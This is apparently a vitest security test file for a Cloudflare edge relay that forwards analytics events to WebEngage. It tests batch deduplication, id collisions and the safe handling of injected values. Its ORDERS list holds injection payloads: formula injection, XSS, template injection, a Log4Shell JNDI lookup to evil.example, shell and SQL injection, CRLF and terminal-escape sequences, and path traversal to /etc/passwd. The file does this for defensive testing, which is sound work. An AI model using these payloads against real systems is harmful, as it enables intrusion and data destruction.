import { runDurableObjectAlarm, runInDurableObject } from 'cloudflare:test';
import { afterEach, describe, expect, test, vi } from 'vitest';
import { batchOf, newSession, SHOP } from '../edge/requests.ts';
import { eventRecord, idOf } from '../fakes/records.ts';
import { attack, onGuard, outbox, SECRETS } from './harness.ts';

// Requests that are let in, and must do no harm by it.

const guard = onGuard();
// What one test has sent is not for the next to wonder at. Before the guard leaves: the last that is said is done first.
afterEach(drain);

const send = (batch: object, headers = {}) => attack({ body: JSON.stringify(batch), headers });

/** Sends on all that waits. */
async function drain(): Promise<void> {
  await vi.waitFor(
    async () => {
      await runDurableObjectAlarm(outbox);
      expect(await outbox.status()).toMatchObject({ records: 0 });
    },
    { timeout: 20_000 },
  );
}

type Sent = { readonly eventName?: string; readonly eventData?: Readonly<Record<string, unknown>> };

function eventsSent(): readonly Sent[] {
  return guard.calls.flatMap(({ body }): readonly Sent[] => JSON.parse(body).events ?? []);
}

test('a flush repeated a thousand times is delivered once', async () => {
  const session = newSession();
  const captured = batchOf(...[1, 2, 3, 4, 5].map((seq) => eventRecord(seq, { id: idOf(seq, session) })));

  const answers = [];
  for (let times = 0; times < 1_000; times++) answers.push(JSON.parse((await send(captured)).text));
  await drain();

  expect(answers.filter(({ accepted }) => accepted > 0)).toHaveLength(1);
  expect(answers.filter(({ duplicates }) => duplicates === 5)).toHaveLength(999);
  expect(eventsSent()).toHaveLength(5);
});

test('a flush sent a hundred times at once is delivered once', async () => {
  const captured = batchOf();

  const answers = await Promise.all(Array.from({ length: 100 }, () => send(captured)));
  await drain();

  expect(answers.filter(({ text }) => JSON.parse(text).accepted === 1)).toHaveLength(1);
  expect(eventsSent()).toHaveLength(1);
});

test('a record with the id of another browser’s record costs that browser nothing', async () => {
  const id = idOf(1, newSession());
  const evil = batchOf(eventRecord(1, { id, eventName: 'Of the attacker' }));
  const honest = batchOf(eventRecord(1, { id, eventName: 'Of the victim' }));

  await send(evil);
  expect(JSON.parse((await send(honest)).text)).toMatchObject({ accepted: 1, duplicates: 0 });
  await drain();

  expect(eventsSent().map(({ eventName }) => eventName)).toEqual(['Of the attacker', 'Of the victim']);
});

test('a device id in capitals is the same browser', async () => {
  const sent = batchOf();

  await send(sent);

  expect(JSON.parse((await send({ ...sent, device: sent.device.toUpperCase() })).text)).toMatchObject({
    accepted: 0,
    duplicates: 1,
  });
});

// What some reader of a log, a table, a page, a terminal or a database might obey.
const ORDERS: readonly string[] = [
  "=cmd|' /C calc'!A0",
  '@SUM(1+1)*cmd',
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  '{{constructor.constructor("x")()}}',
  '{% include "/etc/passwd" %}',
  '$'.concat('{jndi:ldap://evil.example/a}'),
  '$(reboot)`reboot`;reboot',
  "'; DROP TABLE run; --",
  '"}\n{"event":"suspended","status":401}',
  'x\r\nX-Evil: 1\r\n\r\n<html>',
  '\u001b[2J\u001b]0;owned\u0007',
  '\u009b31m\u009d0;owned\u009c',
  '\u202eevil\u202c\u2066',
  'a\u2028{"event":"suspended"}\u2029',
  '\u0000\u0001\u0008\u007f',
  '../../etc/passwd',
  '%00%0d%0a',
  '%WEBENGAGE_API_KEY%',
  '__proto__',
  '\u{e0041}\u{e0042}',
];

describe('a command inside a record', () => {
  const session = newSession();
  const records = ORDERS.map((order, index) =>
    eventRecord(index + 1, {
      id: idOf(index + 1, session),
      userId: order,
      eventName: order,
      eventData: { a: order },
    }),
  );

  test('reaches WebEngage unchanged, at one of its two addresses, and appears in no log line', async () => {
    expect(JSON.parse((await send(batchOf(...records))).text)).toMatchObject({ accepted: ORDERS.length });
    await drain();

    expect(eventsSent().map(({ eventName }) => eventName)).toEqual(ORDERS);
    expect(eventsSent().map(({ eventData }) => eventData)).toEqual(ORDERS.map((a) => ({ a })));
    expect(new Set(guard.calls.map(({ url }) => url))).toEqual(
      new Set(['http://127.0.0.1:9/v1/accounts/~test/bulk-events']),
    );
    const logged = guard.logged();
    expect(logged).toContain('relay_pass');
    for (const order of ORDERS) expect(logged).not.toContain(JSON.stringify(order).slice(1, -1));
    expect(logged).not.toMatch(/suspended|evil|calc|owned/);
  });

  test('is one line in the dead letters, without anything that a terminal obeys', async () => {
    const words = `no \u009b31m\u202e<script>`;
    await runInDurableObject(outbox, (_, { storage }) => {
      for (const record of records)
        storage.sql.exec(
          `INSERT INTO dead (device, kind, accepted_at, given_up_at, status, attempts, proven, words, record)
           VALUES ('a', 'event', 1, 1, 400, 1, 1, ?, ?)`,
          words,
          JSON.stringify(record),
        );
    });
    const request = (path: string) =>
      attack({
        path,
        method: 'GET',
        headers: { Authorization: `Bearer ${SECRETS.ADMIN_TOKEN}`, Origin: '' },
      });

    const exported = (await request('/admin/dead-letters.ndjson')).text;
    const page = (await request('/admin/dead-letters')).text;

    // Whatever a reader takes for the end of a line.
    const lines = exported.trimEnd().split(/[\n\v\f\r\u0085\u2028\u2029]/);
    expect(lines.map((line) => JSON.parse(line).record)).toEqual(records);
    expect(JSON.parse(page).deadLetters.map(({ record }: { record: unknown }) => record)).toEqual(records);
    expect(JSON.parse(page).deadLetters[0].words).toBe(words);
    for (const text of [...lines, page]) expect(text).not.toMatch(/[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u);
    await runInDurableObject(outbox, (_, { storage }) => storage.sql.exec('DELETE FROM dead'));
  });
});

test('a refused value is returned shortened and as JSON, never as a page or script', async () => {
  const evil = '<script>alert(1)</script>';
  const answer = await send(
    batchOf(
      { ...eventRecord(1), id: evil.repeat(1_000), [evil]: 1 },
      { ...eventRecord(1), id: idOf(1, newSession()), eventData: { [evil.repeat(1_000)]: 1 } },
    ),
  );

  expect(answer.status).toBe(202);
  expect(answer.text.length).toBeLessThan(1_500);
  expect(Object.fromEntries(answer.headers)).toMatchObject({
    'content-type': 'application/json',
    'x-content-type-options': 'nosniff',
    'content-security-policy': expect.stringContaining("default-src 'none'"),
  });
});

test('a time far off is kept and does not change the order of its browser', async () => {
  const session = newSession();
  const times = ['9999-12-31T23:59:59-1800', '0000-01-01T00:00:00+1800', '2018-09-15T18:29:00-0800'];
  const sent = {
    ...batchOf(
      ...times.map((eventTime, n) =>
        eventRecord(n + 1, { id: idOf(n + 1, session), eventTime, eventData: { n } }),
      ),
    ),
    sentAt: '0001-01-01T00:00:00Z',
  };

  expect(JSON.parse((await send(sent)).text)).toMatchObject({ accepted: 3 });
  await drain();

  expect(eventsSent().map(({ eventData }) => eventData?.n)).toEqual([0, 1, 2]);
});

test('a page that sends the server token is not treated as a server', async () => {
  const required = { IDENTITY: 'required' };
  const headers = { Origin: SHOP, Authorization: `Bearer ${SECRETS.SERVER_TOKEN}` };

  const answer = await attack({ body: JSON.stringify(batchOf()), headers, env: required });

  expect(answer.status).toBe(401);
});
